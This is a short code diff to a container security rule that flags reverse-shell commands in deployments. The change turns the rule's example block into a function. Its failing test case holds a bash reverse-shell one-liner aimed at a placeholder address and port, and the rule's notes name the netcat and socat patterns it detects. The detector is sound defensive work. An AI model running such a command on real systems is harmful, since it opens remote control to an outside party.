@@ -21,12 +21,12 @@ export const commandReverseShell = defineContainerRule({
   references: ['https://attack.mitre.org/techniques/T1059/004/'],
   alike: 'none known',
   noise: 'Only /dev/tcp with an address and port, netcat with a program to run, and socat with exec.',
-  example: {
+  example: () => ({
     pass: exampleDeployment({ container: 'command: [sh, -c, "nc -z db 5432 && exec /app/web"]' }),
     fail: exampleDeployment({
       container: 'command: [bash, -c, "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]',
     }),
-  },
+  }),
   check({ container }) {
     const line = commandLine(container);
     if (line === undefined || !opensReverseShell(line)) return undefined;
